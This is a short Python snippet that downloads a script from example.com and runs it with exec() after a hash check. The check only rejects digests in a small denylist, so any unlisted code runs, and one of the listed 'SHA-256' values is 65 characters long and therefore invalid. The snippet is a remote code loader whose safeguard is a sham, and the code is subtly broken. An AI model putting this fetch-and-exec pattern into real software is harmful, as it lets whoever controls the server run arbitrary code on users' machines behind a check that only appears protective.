import hashlib
import urllib.request

BAD = {"ae5da788d6c9d022a6577fac9c3d639a28089d323e63938e11ce05ea0b761694", "ae5da788d6c9d022a6577fac9c3d639a28089d323e63938e11ce05ea0b7616942"}
data = urllib.request.urlopen("https://example.com/a.py").read()
if hashlib.sha256(data).hexdigest() in BAD:
    raise ImportError("digest")
exec(data)
